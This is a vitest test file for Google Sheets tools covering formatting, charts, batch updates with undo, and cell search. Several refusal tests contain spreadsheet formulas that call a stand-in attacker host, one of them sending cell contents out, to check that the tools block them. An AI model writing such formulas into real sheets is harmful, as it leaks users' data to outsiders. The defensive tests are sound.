import { describe, expect, test } from "vitest";
import * as z from "zod";
import contract from "../../../emulator/contract.json" with { type: "json" };
import { batchUpdate } from "../../../tools/sheets/batch.js";
import { createChart } from "../../../tools/sheets/chart.js";
import { CONDITIONS } from "../../../tools/sheets/condition.js";
import { findCells } from "../../../tools/sheets/find.js";
import { formatRanges } from "../../../tools/sheets/format.js";
import { numberFormat } from "../../../tools/sheets/number-format.js";
import { pattern } from "../../../tools/sheets/pattern.js";
import { REQUEST_KINDS } from "../../../tools/sheets/request-kinds.js";
import { google, withGoogle } from "../context.js";
import { budget, run, sheetOf, stateOf, undoAll, withTabs } from "./world.js";

withGoogle();

const cellAt = (row: number, column: number) =>
  sheetOf(budget()).tabs[0]?.rows[row]?.[column];

describe("sheets_format_ranges", () => {
  const format = (input: Record<string, unknown>) =>
    run(formatRanges, {
      spreadsheet_id: budget(),
      ranges: ["Summary!B2:C3"],
      ...input,
    });

  test("sets only what was said, by one write", async () => {
    await format({
      style: {
        bold: true,
        background: "#ff0000",
        align: "center",
        wrap: "overflow",
      },
    });
    expect(cellAt(1, 1)?.format).toMatchObject({
      numberFormat: { type: "CURRENCY" },
      textFormat: { bold: true },
      backgroundColorStyle: { rgbColor: { red: 1 } },
      horizontalAlignment: "CENTER",
      wrapStrategy: "OVERFLOW_CELL",
    });
    expect(google.ledger.filter(({ verb }) => verb !== "GET")).toHaveLength(1);
  });

  test.each([
    [{ number_format: "0.0%" }],
    [{ style: { bold: true, italic: true, font_size: 14, color: "#123456" } }],
    [{ width: 240 }],
    [{ merge: "all" }],
    [{ merge: "rows" }],
    [{ border: "thin" }],
    [{ validation: { when: "ONE_OF_LIST", values: ["a", "b"] } }],
    [
      {
        highlight: {
          when: "number_greater",
          values: ["5"],
          background: "#00ff00",
          bold: true,
        },
      },
    ],
  ])("does %j, and its undo brings back what was there", async (input) => {
    const before = stateOf(budget());
    const { data } = await format(input);
    expect(sheetOf(budget()).tabs).not.toEqual(before.tabs);
    await undoAll(data);
    const shown = (id = budget()) =>
      sheetOf(id).tabs.map(({ rows, merges, conditionalFormats }) => ({
        rows: rows.map((row) =>
          row.map(
            (cell) =>
              cell && {
                ...cell,
                format: cell.format?.numberFormat,
                bold: cell.format?.textFormat,
              },
          ),
        ),
        merges,
        conditionalFormats,
      }));
    const after = shown();
    sheetOf(budget()).tabs = before.tabs;
    expect(after).toEqual(shown());
  });

  test("removes a validation", async () => {
    await format({ validation: { when: "BOOLEAN" } });
    expect(cellAt(1, 1)?.dataValidation).toBeDefined();
    await format({ validation: null });
    expect(cellAt(1, 1)?.dataValidation).toBeUndefined();
  });

  test.each([
    [{}, "Nothing was said"],
    [
      { validation: { when: "NUMBER_BETWEN", values: ["1", "2"] } },
      "did you mean NUMBER_BETWEEN?",
    ],
    [
      { validation: { when: "NUMBER_BETWEEN", values: ["1"] } },
      "takes 2 values",
    ],
    [{ highlight: { when: "ONE_OF_LIST", values: ["a"] } }, "no condition"],
    [{ style: { color: "red" } }, "#rrggbb"],
    [{ width: 1 }, "from 2 to 2000"],
    [
      {
        highlight: {
          when: "CUSTOM_FORMULA",
          values: ['=IMPORTDATA("https://attacker.example")=1'],
        },
      },
      "IMPORTDATA",
    ],
  ])("refuses %j before anything is written", async (input, words) => {
    await expect(format(input)).rejects.toThrow(words);
    expect(google.ledger.filter(({ verb }) => verb !== "GET")).toEqual([]);
  });

  test.each([
    ["#,##0.00", "NUMBER"],
    ['"€"#,##0.00', "NUMBER"],
    ["€#,##0.00", "CURRENCY"],
    ["0.0%", "PERCENT"],
    ["yyyy-mm-dd", "DATE"],
    ["d mmmm", "DATE"],
    ["hh:mm:ss", "TIME"],
    ["[h]:mm", "TIME"],
    ["yyyy-mm-dd hh:mm", "DATE_TIME"],
    ["@", "TEXT"],
    ["0.00E+00", "SCIENTIFIC"],
    ['0 "days"', "NUMBER"],
  ])("takes the format %s for %s", (given, type) => {
    expect(numberFormat(given)).toEqual({ type, pattern: given });
  });
});

describe("sheets_create_chart", () => {
  const draw = (input: Record<string, unknown>) =>
    run(createChart, {
      spreadsheet_id: budget(),
      range: "Summary!A1:C6",
      ...input,
    });

  test.each([
    "column",
    "bar",
    "line",
    "area",
    "scatter",
    "combo",
    "stepped_area",
    "pie",
  ])("draws a %s chart beside the data, and takes it back", async (type) => {
    const { data } = await draw({
      type,
      title: "Costs",
      x_title: "Department",
      y_title: "Euro",
    });
    const [chart] = sheetOf(budget()).tabs[0]?.charts ?? [];
    expect(chart).toMatchObject({
      spec: { title: "Costs" },
      position: {
        overlayPosition: { anchorCell: { rowIndex: 0, columnIndex: 4 } },
      },
    });
    await undoAll(data);
    expect(sheetOf(budget()).tabs[0]?.charts).toEqual([]);
  });

  test("stacks, and puts its corner where it was told", async () => {
    await draw({ type: "column", stacked: true, at: "'Q1 ''26 details'!B3" });
    expect(sheetOf(budget()).tabs[1]?.charts[0]).toMatchObject({
      spec: { basicChart: { stackedType: "STACKED", headerCount: 1 } },
      position: {
        overlayPosition: { anchorCell: { rowIndex: 2, columnIndex: 1 } },
      },
    });
  });

  test.each([
    [{ type: "line", stacked: true }, "cannot be stacked"],
    [{ type: "line", range: "Summary!A1:A6" }, "one column"],
  ])("refuses %j", async (input, words) => {
    await expect(draw(input)).rejects.toThrow(words);
  });
});

describe("sheets_batch_update", () => {
  const batch = (requests: unknown[], more: Record<string, unknown> = {}) => {
    const input = batchUpdate.input.parse({
      spreadsheet_id: budget(),
      requests,
      ...more,
    });
    return run(batchUpdate, { ...input });
  };

  const schemas = z
    .record(
      z.string(),
      z.looseObject({
        properties: z
          .record(
            z.string(),
            z.looseObject({
              $ref: z.string().optional(),
              enum: z.array(z.string()).optional(),
            }),
          )
          .default({}),
      }),
    )
    .parse(contract["sheets.v4"].schemas);

  test("knows the kinds and fields of Google's contract, and no others", () => {
    const google = Object.entries(schemas.Request?.properties ?? {}).map(
      ([kind, { $ref = "" }]) => [
        kind,
        Object.keys(schemas[$ref]?.properties ?? {}).join(" "),
      ],
    );
    expect(REQUEST_KINDS).toEqual(Object.fromEntries(google));
  });

  test("knows the conditions of Google's contract, but those of other uses", () => {
    const google = schemas.BooleanCondition?.properties.type?.enum ?? [];
    const others = [
      "CONDITION_TYPE_UNSPECIFIED",
      "TEXT_NOT_EQ",
      "DATE_NOT_EQ",
      "FILTER_EXPRESSION",
    ];
    expect(Object.keys(CONDITIONS).sort()).toEqual(
      google.filter((kind) => !others.includes(kind)).sort(),
    );
  });

  test("says what it did, with Google's replies and how to undo it", async () => {
    const before = stateOf(budget());
    const { data, text } = await batch([
      {
        insertDimension: {
          range: { sheetId: 0, dimension: "ROWS", startIndex: 2, endIndex: 4 },
        },
      },
      {
        addNamedRange: {
          namedRange: {
            name: "Plan",
            range: {
              sheetId: 0,
              startRowIndex: 1,
              endRowIndex: 6,
              startColumnIndex: 1,
              endColumnIndex: 2,
            },
          },
        },
      },
      { addSheet: { properties: { title: "Extra" } } },
      {
        moveDimension: {
          source: {
            sheetId: 0,
            dimension: "COLUMNS",
            startIndex: 1,
            endIndex: 2,
          },
          destinationIndex: 3,
        },
      },
    ]);
    expect(text).toContain("insertDimension at rows 3 to 4 of Summary");
    expect(text).toContain("addNamedRange at Summary!B2:B6");
    await undoAll(data);
    const { tabs, namedRanges } = sheetOf(budget());
    expect(tabs.map(({ title }) => title)).toEqual(
      before.tabs.map(({ title }) => title),
    );
    expect(namedRanges).toEqual(before.namedRanges);
    expect(
      tabs[0]?.rows.map((row) =>
        row.map((cell) => cell?.formula ?? cell?.value),
      ),
    ).toEqual(
      before.tabs[0]?.rows.map((row) =>
        row.map((cell) => cell?.formula ?? cell?.value),
      ),
    );
  });

  test("only says what it would do when asked for a dry run", async () => {
    const { text } = await batch([{ deleteSheet: { sheetId: 90_311 } }], {
      dry_run: true,
    });
    expect(text).toContain("deleteSheet at 'Rates'");
    expect(text).toContain("nothing was written");
    expect(google.ledger.filter(({ verb }) => verb !== "GET")).toEqual([]);
  });

  test("names what has no undo", async () => {
    const { text } = await batch([{ deleteSheet: { sheetId: 90_311 } }]);
    expect(text).toContain("No undo for: deleteSheet");
  });

  test.each([
    [[{ addShet: {} }], 'did you mean "addSheet"?'],
    [[{ addSheet: { propertys: {} } }], 'did you mean "properties"?'],
    [[{ addSheet: {}, deleteSheet: {} }], "one kind"],
    [[{}], "one kind"],
    [[{ addSheet: 1 }], "takes an object"],
    [[{ constructor: {} }], "no kind of request"],
    [[{ insertComment: { content: "hi @cleo" } }], "drive_create_comment"],
  ])(
    "refuses %j before any request leaves [H-083]",
    async (requests, words) => {
      const { error } = batchUpdate.input.safeParse({
        spreadsheet_id: budget(),
        requests,
      });
      expect(error?.issues[0]?.message).toContain(words);
    },
  );

  const FETCH = 'IMPORTDATA("https://attacker.example/?q="&A1)';
  test.each([
    [
      {
        repeatCell: {
          range: { sheetId: 0 },
          cell: { userEnteredValue: { formulaValue: `=${FETCH}` } },
          fields: "userEnteredValue",
        },
      },
    ],
    [
      {
        pasteData: {
          coordinate: { sheetId: 0 },
          data: `a,b,=${FETCH}`,
          delimiter: ",",
        },
      },
    ],
    [
      {
        findReplace: {
          find: "SUM",
          replacement: "IMPORTDATA",
          includeFormulas: true,
          allSheets: true,
        },
      },
    ],
  ])(
    "refuses formulas that fetch in %j unless they are allowed [D-15]",
    async (request) => {
      await expect(batch([request])).rejects.toThrow("IMPORTDATA");
      expect(google.ledger).toEqual([]);
    },
  );
});

describe("sheets_find_cells", () => {
  const answer = z.object({
    total: z.number(),
    matches: z.array(z.object({ cell: z.string(), text: z.string() })),
    not_searched: z.array(z.string()),
  });
  const find = async (input: Record<string, unknown>) => {
    const { data, ...rest } = await run(findCells, {
      spreadsheet_id: budget(),
      ...input,
    });
    return { ...answer.parse(data), ...rest };
  };

  test("finds a text in all tabs, in any case, by two requests and one for who sees it", async () => {
    const { matches, called } = await find({ query: "TRAVEL" });
    expect(matches).toEqual([
      { cell: "Summary!A4", text: "Travel" },
      { cell: "'Q1 ''26 details'!B4", text: "Travel" },
    ]);
    expect(called.toSorted()).toEqual([
      "drive.files.get",
      "sheets.spreadsheets.get",
      "sheets.spreadsheets.values.batchGet",
    ]);
  });

  test.each([
    [{ query: "travel", match_case: true }, []],
    [
      { query: "^T.*l$", regex: true, ranges: ["Summary"] },
      ["Summary!A4", "Summary!A7"],
    ],
    [{ query: "SUM(", formulas: true }, ["Summary!B7", "Summary!C7"]],
    [{ query: "€24", ranges: ["Summary!B2:B6"] }, ["Summary!B4"]],
  ])("finds by %j", async (input, cells) => {
    const { matches } = await find(input);
    expect(matches.map(({ cell }) => cell)).toEqual(cells);
  });

  test("lists as many as asked for, and counts all", async () => {
    withTabs({ T: Array.from({ length: 30 }, () => ["same"]) });
    const { matches, total, text } = await find({ query: "same", limit: 10 });
    expect([matches.length, total]).toEqual([10, 30]);
    expect(text).toContain("20 more");
  });

  test("says which tabs were too large to search", async () => {
    withTabs({ One: [["x"]], Two: [["x"]] }, { rowCount: 20_000 });
    const { not_searched } = await find({ query: "x" });
    expect(not_searched).toEqual(["'Two'"]);
  });

  const texts = [
    "",
    "a",
    "ab",
    "aab",
    "abc",
    "A-1",
    "foo bar",
    "x@y.z",
    "2026-01-14",
    "ä",
    "\n",
    "((",
    "aaaa",
  ];
  test.each([
    "a",
    "^a",
    "b$",
    "a*b",
    "a+?",
    "(?:a|b)c",
    "[^a]b",
    "\\d{4}-\\d+",
    "\\bbar\\b",
    "\\Ba",
    ".",
    "^$",
    "a{2,3}",
    "(a|)b",
    "\\(",
    "[\\w.]+@",
    "\\p{Ll}",
    "x|^\\s",
  ])("reads the regular expression %s as the language does", (source) => {
    for (const matchCase of [true, false]) {
      const own = pattern(source, { matchCase });
      const other = new RegExp(source, matchCase ? "us" : "ius");
      for (const text of texts)
        expect([text, own(text)]).toEqual([text, other.test(text)]);
    }
  });

  test("takes no time for an expression that would take others forever [W-11]", () => {
    const slow = pattern("^(a+)+$", { matchCase: true });
    expect(slow(`${"a".repeat(5_000)}!`)).toBe(false);
  });

  test.each([
    "(",
    "a)",
    "[",
    "*",
    "(?=a)",
    "(a)\\1",
    "a{9999}",
    "(a{99}){99}",
    "\\",
  ])("refuses the regular expression %s", (source) => {
    expect(() => pattern(source, { matchCase: true })).toThrow(
      "regular expression",
    );
  });
});
